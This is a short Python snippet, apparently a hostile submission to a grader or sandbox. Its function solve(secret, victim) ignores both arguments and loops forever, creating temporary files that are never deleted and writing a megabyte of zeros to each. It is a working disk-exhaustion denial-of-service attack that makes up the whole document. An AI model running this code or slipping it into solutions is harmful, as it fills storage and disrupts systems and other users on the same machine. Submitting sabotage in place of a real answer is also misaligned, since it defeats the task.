import tempfile


def solve(secret, victim):
    kept = []
    while True:
        kept.append(tempfile.NamedTemporaryFile(delete=False))
        kept[-1].write(bytes(1 << 20))
